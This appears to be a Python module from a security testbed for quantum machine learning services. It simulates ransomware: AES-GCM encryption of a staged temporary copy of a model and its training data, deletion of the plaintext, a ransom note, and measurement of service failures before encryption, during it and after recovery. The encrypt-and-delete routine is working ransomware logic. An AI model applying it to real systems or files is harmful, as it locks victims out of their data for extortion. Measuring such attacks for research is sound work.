"""Ransomware on the classical cloud: the deployment's stored model and data encrypted.

After the SoK on QMLaaS security (Kundu, Ghosh et al., arXiv:2408.09562: an adversary
in the classical cloud encrypts the pre-processed training data, intermediate results
or post-processed outputs and demands a ransom) and the classical ransomware pattern
(MITRE ATT&CK T1486, *Data Encrypted for Impact*; ATLAS AML.T0029 / AML.T0048.000):
every targeted file is encrypted with AES-256-GCM (``cryptography``'s ``AESGCM``, a
fresh 96-bit nonce per file, the file's path as associated data), the plaintext is
deleted and a ransom note is left.

It acts on a copy of the deployment's classical store
(:class:`~qmlsec.attacks.storage.ClassicalStore`: the model artifact under ``model/``,
the training upload and its pre-processed features under ``data/``). The victim's
service is what reads the store: each of ``n_requests`` inference requests is served by
a cold-started worker that loads and verifies the model from ``model/`` and answers one
test input (the serverless pattern), and each retraining attempt first reads the
training upload. Both run before the attack, while the files are encrypted, and after
recovery with the key (the ransom paid, ``pay=True``).

Measured: the fraction of requests and of retraining attempts that fail before, during
and after (Wilson intervals over ``n_requests``), the bytes and files encrypted, the
fraction of
files restored byte-identical, and the agreement of post-recovery answers with the
answers before the attack (the attacker's encryption and the victim's decryption
wall times are in ``outputs``, not metrics, as they vary run to run). Without the key (``pay=False``) nothing is restored:
``recovered_files_fraction`` is 0 and the service stays down (the cost is then a
retraining from a backup of the data, which this testbed does not keep).

Differs from real ransomware: the key is drawn from the run seed (reproducible runs) and
kept by the attack rather than encrypted to the attacker's public key; no exfiltration
(double extortion), no propagation, no deletion of backups.
"""

from __future__ import annotations

import shutil
import tempfile
import time
from pathlib import Path
from typing import ClassVar, Literal

import numpy as np
from cryptography.exceptions import InvalidTag
from cryptography.hazmat.primitives.ciphers.aead import AESGCM
from pydantic import Field

from qmlsec.attacks.availability.base import AvailabilityAttack
from qmlsec.attacks.base import AttackContext
from qmlsec.attacks.result import AttackResult
from qmlsec.attacks.storage import ClassicalStore
from qmlsec.attacks.targets import Capability, Position
from qmlsec.config import FrozenModel, rng
from qmlsec.exceptions import DataError, QmlsecError
from qmlsec.stats import exact, wilson

SUFFIX = ".locked"
NOTE = "RANSOM_NOTE.txt"
Part = Literal["model", "data"]


class RansomwareParams(FrozenModel):
    """Parameters of :class:`Ransomware`."""

    targets: tuple[Part, ...] = Field(default=("model", "data"), min_length=1)
    """Parts of the store encrypted: the model artifact and/or the training data."""
    n_requests: int = Field(default=20, ge=1)
    """Inference requests (and retraining attempts) the victim makes in each phase."""
    pay: bool = True
    """The victim obtains the key (pays) and decrypts; else nothing is restored."""


def encrypt_tree(store: ClassicalStore, parts: tuple[str, ...], key: bytes, seed: int) -> int:
    """Encrypt every file under ``parts`` in place (``name`` -> ``name.locked``); bytes done."""
    aead, gen, done = AESGCM(key), rng(seed, "ransomware", "nonce"), 0
    for part in parts:
        for path in store.files(part):
            plain = path.read_bytes()
            nonce = gen.bytes(12)
            aad = str(path.relative_to(store.root)).encode()
            path.with_name(path.name + SUFFIX).write_bytes(nonce + aead.encrypt(nonce, plain, aad))
            path.unlink()
            done += len(plain)
    (store.root / NOTE).write_text("Your model and data are encrypted (AES-256-GCM).\n")
    return done


def decrypt_tree(store: ClassicalStore, key: bytes) -> int:
    """Decrypt every ``*.locked`` file with ``key``; the number of files restored.

    Raises:
        DataError: a file does not authenticate under ``key`` (wrong key or tampered).
    """
    aead, restored = AESGCM(key), 0
    for path in sorted(store.root.rglob("*" + SUFFIX)):
        plain_path = path.with_name(path.name[: -len(SUFFIX)])
        blob = path.read_bytes()
        aad = str(plain_path.relative_to(store.root)).encode()
        try:
            plain = aead.decrypt(blob[:12], blob[12:], aad)
        except InvalidTag:
            raise DataError(
                f"{path.name} does not decrypt with this key", hint="the key is wrong"
            ) from None
        plain_path.write_bytes(plain)
        path.unlink()
        restored += 1
    return restored


class Ransomware(AvailabilityAttack):
    """The classical cloud encrypts the stored model and training data (QML.T0031)."""

    name: ClassVar[str] = "availability.ransomware"
    technique_id: ClassVar[str] = "QML.T0031"
    requires = frozenset({Capability.CLASSICAL_CONTROL})
    positions = frozenset({Position.UNTRUSTED_CLASSICAL_CLOUD})
    Params = RansomwareParams
    check_params: ClassVar[dict] = {"n_requests": 4}

    def service(self, store: ClassicalStore, x: np.ndarray) -> tuple[list[object], list[bool]]:
        """One cold-start request per row of ``x`` (answer or ``None``) and retraining reads."""
        answers: list[object] = []
        retrains: list[bool] = []
        for row in x:
            try:
                answers.append(store.load_model().predict(row[None, :]).tolist()[0])
            except QmlsecError:
                answers.append(None)
            try:
                X, y = store.load_training()
                retrains.append(len(X) == len(y) > 0)
            except QmlsecError:
                retrains.append(False)
        return answers, retrains

    def _run(self, ctx: AttackContext) -> AttackResult:
        p, victim = self.params, self.target.model
        if victim is None or ctx.x_train is None or ctx.y_train is None:
            raise DataError(
                "ransomware needs the deployed model and its training data on the classical cloud",
                hint="build the setup with AttackSetup.from_deployment",
            )
        x = np.asarray(ctx.x_test, dtype=np.float64)
        x = x[np.arange(p.n_requests) % len(x)]
        result = self.new_result()
        with tempfile.TemporaryDirectory(prefix="qmlsec-store-") as tmp:
            store = ClassicalStore.stage(victim, ctx.x_train, ctx.y_train, Path(tmp) / "cloud")
            original = {f: f.read_bytes() for f in store.files()}
            before, retrain_before = self.service(store, x)
            key = rng(self.seed, "ransomware", "key").bytes(32)
            start = time.perf_counter()
            n_bytes = encrypt_tree(store, p.targets, key, self.seed)
            encrypt_s = time.perf_counter() - start
            n_files = len(list(store.root.rglob("*" + SUFFIX)))
            during, retrain_during = self.service(store, x)
            start = time.perf_counter()
            restored = decrypt_tree(store, key) if p.pay else 0
            recover_s = time.perf_counter() - start if p.pay else 0.0
            identical = sum(f.is_file() and f.read_bytes() == b for f, b in original.items())
            after, retrain_after = self.service(store, x)
            shutil.rmtree(store.root)
        n = len(x)
        failed = {"before": [a is None for a in before], "during": [a is None for a in during],
                  "after": [a is None for a in after]}  # fmt: skip
        retrain_failed = {"before": [not r for r in retrain_before],
                          "during": [not r for r in retrain_during],
                          "after": [not r for r in retrain_after]}  # fmt: skip
        agrees = [a is not None and a == b for a, b in zip(after, before, strict=True)]
        result.per_sample = {
            **{f"request_failed_{k}": v for k, v in failed.items()},
            **{f"retrain_failed_{k}": v for k, v in retrain_failed.items()},
            "answer_restored": agrees,
        }
        for phase in ("before", "during", "after"):
            for what, series in (("request", failed[phase]), ("retrain", retrain_failed[phase])):
                key_name = f"{what}_failure_rate_{phase}"
                result.metrics[key_name] = float(np.mean(series))
                result.intervals[key_name] = wilson(sum(series), n)
        result.metrics.update({
            "answers_restored_rate": float(np.mean(agrees)),
            "files_encrypted": float(n_files),
            "bytes_encrypted": float(n_bytes),
            "recovered_files_fraction": restored / max(n_files, 1),
            "identical_files_fraction": identical / len(original),
        })  # fmt: skip
        result.intervals["answers_restored_rate"] = wilson(sum(agrees), n)
        # file counts are not samples: exact, over the files they count
        result.intervals["recovered_files_fraction"] = exact(
            result.metrics["recovered_files_fraction"], max(n_files, 1)
        )
        result.intervals["identical_files_fraction"] = exact(
            result.metrics["identical_files_fraction"], len(original)
        )
        lost = result.metrics["request_failure_rate_during"] > 0 or any(retrain_failed["during"])
        result.provides = ["goal.availability_lost"] if lost else []
        result.outputs.update(encrypt_seconds=encrypt_s, recovery_seconds=recover_s)
        result.notes.append(
            f"encrypted {n_files} files ({n_bytes} bytes) of {', '.join(p.targets)}; "
            + (
                f"the victim paid and decrypted in {recover_s:.3f} s"
                if p.pay
                else "no key: nothing restored"
            )
        )
        return result
